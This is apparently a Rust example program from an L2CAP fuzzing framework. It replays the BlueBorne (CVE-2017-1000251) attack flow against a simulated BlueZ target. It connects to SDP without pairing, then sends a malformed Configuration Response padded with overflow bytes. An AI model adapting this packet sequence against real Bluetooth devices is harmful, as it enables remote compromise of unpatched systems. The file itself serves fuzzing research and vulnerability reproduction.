//! Replays the BlueBorne (CVE-2017-1000251) attack flow of the paper's Fig. 4
//! against the simulated BlueZ laptop (D8): connect to SDP without pairing,
//! reach the configuration state, then send a normal Configuration Request
//! followed by a malformed Configuration Response.
//!
//! Hand-driven flows obtain their wired target environment (device, link,
//! tap, clock) from `Campaign::builder().env()` instead of assembling an
//! `EventMedium` manually.
//!
//! Run with: `cargo run --example blueborne_flow`

use btcore::{Identifier, Psm};
use btstack::profiles::{DeviceProfile, ProfileId};
use l2cap::packet::{parse_signaling, SignalingPacket};
use l2fuzz::campaign::Campaign;
use l2fuzz::guide::StateGuide;

fn main() {
    let mut env = Campaign::builder()
        .target(DeviceProfile::table5(ProfileId::D8))
        .seed(5)
        .env()
        .expect("target environment builds");

    // ConnectionRequest (PSM: SDP) -> state transition without pairing.
    let mut guide = StateGuide::new();
    let ctx = guide
        .open_channel(&mut env.link, Psm::SDP, false)
        .expect("SDP connect");
    println!(
        "CLOSED -> configuration job without pairing (DCID {})",
        ctx.dcid
    );

    // Normal Configuration Request.
    guide.send_configure_request(&mut env.link, ctx);

    // Malformed Configuration Response - pending, with an overflowing tail.
    let mut data = ctx.dcid.value().to_le_bytes().to_vec();
    data.extend_from_slice(&[0x00, 0x00]); // flags
    data.extend_from_slice(&[0x04, 0x00]); // result: pending
    let declared = data.len() as u16;
    data.extend_from_slice(&[0x41; 24]); // overflow bytes
    let malformed = SignalingPacket {
        identifier: Identifier(9),
        code: 0x05,
        declared_data_len: declared,
        data: data.into(),
    };
    let responses = env.link.send_frame(&malformed.into_frame());
    println!(
        "malformed Configuration Response sent; {} response frame(s)",
        responses.len()
    );
    for frame in responses {
        if let Ok(sig) = parse_signaling(frame) {
            println!("  target answered with {:?}", sig.command().code());
        }
    }

    let trace = env.trace();
    println!(
        "exchange captured: {} packets ({} tx / {} rx)",
        trace.len(),
        trace.transmitted_count(),
        trace.received_count()
    );
}
